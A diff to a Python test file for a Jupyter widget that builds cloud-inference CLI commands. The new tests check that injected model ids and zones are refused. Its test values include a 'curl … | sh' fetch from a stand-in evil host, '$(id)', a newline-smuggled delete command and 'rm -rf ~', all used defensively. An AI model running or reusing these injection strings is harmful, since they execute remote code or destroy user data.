@@ -247,6 +247,28 @@ def test_cli_command_never_contains_the_token(sb):
     assert DEMO.hf_write_token not in widget.cli.value and widget.cli.layout.display == ""
 
 
+@pytest.mark.parametrize("model_id", ["org/m;curl https://evil.example/x | sh", "org/m $(id)", "https://hf.co/org/m",
+                                      "org/m\nexo iam delete", ""])
+def test_no_cli_command_is_shown_for_an_id_no_command_should_carry(sb, model_id):
+    from jupyter_exo_models.notebook.render import exo_command
+
+    assert exo_command(model_id, "de-fra-1") is None
+    widget = checked(model_id)
+    widget.cli_toggle.value = True
+    assert "<pre>" not in widget.cli.value and "valid model id" in widget.cli.value
+
+
+def test_the_cli_command_is_one_shell_word_per_argument():
+    import shlex
+
+    from jupyter_exo_models.notebook.render import exo_command
+
+    command = exo_command(DEMO.tiny, "de-fra-1")
+    assert shlex.split(command) == ["exo", "dedicated-inference", "model", "create", DEMO.tiny,
+                                    "--huggingface-token", "$HF_TOKEN", "-z", "de-fra-1"]
+    assert '"$HF_TOKEN"' in command and exo_command(DEMO.tiny, "de-fra-1; rm -rf ~") is None
+
+
 # -- login ---------------------------------------------------------------------------------------------
 def test_login_skips_in_one_line_when_valid(sb, capsys):
     check = login()
@@ -394,12 +416,31 @@ def test_an_edit_hides_what_the_previous_report_offered(sb):
     assert widget.gate.value and widget.use_canonical.layout.display == "none"
 
 
-def test_an_unknown_zone_is_refused_not_replaced(sb):
-    with pytest.raises(ExoModelsError) as err:
-        ModelImporter(zone="ch-gva-3")
-    assert "ch-gva-2" in str(err.value) + err.value.fix
+@pytest.mark.parametrize("zone", ["ch-gva-3", "../", "de\x1b[31m"])
+def test_an_unknown_zone_shows_the_error_and_is_never_replaced(sb, zone):
+    from jupyter_exo_models.core.text import shown
+
+    widget = ModelImporter(DEMO.tiny, zone=zone)  # was a traceback
+    assert widget.zone_input.value is None and shown(zone) in html.unescape(widget.status.value) and "ch-gva-2" in widget.status.value
+    assert "\x1b" not in widget.status.value
     with pytest.raises(ExoModelsError):
-        LoginWidget(zone="ch-gva-3")
+        widget.check_button.click() or widget.future.result(WAIT)
+    assert "Choose a zone" in widget.results.value and not sb.requests
+    widget.zone_input.value = "de-fra-1"
+    assert widget.status.value == ""
+    widget.check_button.click()
+    assert widget.future.result(WAIT).zone == "de-fra-1"
+    form = LoginWidget(zone=zone)
+    assert form.zone.value is None and shown(zone) in html.unescape(form.status.value)
+    with pytest.raises(ExoModelsError):
+        form.submit().result(WAIT)
+
+
+@pytest.mark.parametrize("zone", ["ch-gva-3", "../"])
+def test_login_with_an_unknown_zone_shows_the_error_not_a_traceback(sb, capsys, zone):
+    assert login(zone=zone) is None
+    out = capsys.readouterr().out
+    assert out.startswith("error: Unknown zone") and "fix: Use one of" in out and "Traceback" not in out
 
 
 def test_a_failure_of_a_deleted_model_is_not_shown_again(sb):
